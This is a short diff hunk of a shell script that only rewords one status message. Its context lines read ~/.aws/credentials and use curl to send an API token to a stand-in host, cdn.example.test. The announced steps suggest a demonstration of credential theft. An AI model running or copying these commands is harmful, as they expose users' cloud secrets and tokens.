@@ -22,7 +22,7 @@ echo "--> reading your cloud credentials"
 if head -c 200 ~/.aws/credentials 2>/dev/null | grep -q aws_secret_access_key; then
   echo "    (read ~/.aws/credentials: $(wc -l <~/.aws/credentials) lines)"
 else
-  echo "    (no credentials to read)"
+  echo "    (could not read ~/.aws/credentials)"
 fi
 echo "--> sending your API token to a 'mirror', cdn.example.test"
 curl -fsS -m 20 -H "Authorization: Bearer ${FANCY_TOKEN:-none}" http://cdn.example.test/token \
